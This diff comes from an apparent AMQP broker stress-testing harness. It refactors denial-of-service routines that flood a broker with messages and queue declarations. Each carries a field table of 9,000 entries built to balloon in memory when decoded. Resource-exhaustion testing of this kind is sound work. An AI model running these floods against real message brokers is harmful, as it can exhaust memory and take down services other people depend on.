@@ -255,19 +255,24 @@ def transactions(attack: Attack) -> None:
         attack.push(client, [mine] * 30)
 
 
+def large_table() -> bytes:
+    """Entries of a table that is much larger decoded than sent."""
+    return b"".join(b"\x06k%05dt\x01" % number for number in range(9000))
+
+
 @hog
 def tables(attack: Attack) -> None:
-    """Messages, queues and bindings with tables that are much larger decoded than sent."""
+    """Messages whose headers have to be decoded to be routed."""
     client = attack.client()
     queue = attack.queue(client)
     exchange = f"{queue}.x"
     declare = amqp.Exchange.Declare(exchange=exchange, exchange_type="headers")
     client.call(1, declare, amqp.Exchange.DeclareOk)
-    entries = b"".join(b"\x06k%05dt\x01" % number for number in range(9000))
-    table = struct.pack(">I", len(entries)) + entries
+    client.call(1, amqp.Queue.Bind(queue=queue, exchange=exchange), amqp.Queue.BindOk)
+    entries = large_table()
 
     def messages() -> Iterator[bytes]:
-        for number in range(attack.wanted_bytes // len(entries) // 4):
+        for number in range(attack.wanted_bytes // len(entries)):
             mark = b"\x04mark" + b"I" + struct.pack(">I", number)
             own = struct.pack(">I", len(entries) + len(mark)) + mark + entries
             head = struct.pack(">HHQH", 60, 0, 0, 0x2000) + own
@@ -275,16 +280,22 @@ def tables(attack: Attack) -> None:
             yield method(1, publish) + frame(HEADER, 1, head)
 
     attack.push(client, messages())
-    second = attack.client()
+
+
+@hog
+def declared_tables(attack: Attack) -> None:
+    """Queues with arguments that mean nothing, and are many."""
+    client = attack.client()
+    entries = large_table()
+    table = struct.pack(">I", len(entries)) + entries
 
     def declares() -> Iterator[bytes]:
         for number in range(attack.wanted_bytes // len(entries) // 8):
-            name = b"%s.%d" % (queue.encode(), number)
+            name = b"hog.%d" % number
             short = bytes((len(name),)) + name
-            payload = struct.pack(">HHH", 50, 10, 0) + short + b"\x08" + table
-            yield frame(1, 1, payload)
+            yield frame(1, 1, struct.pack(">HHH", 50, 10, 0) + short + b"\x08" + table)
 
-    attack.push(second, declares())
+    attack.push(client, declares())
 
 
 @hog
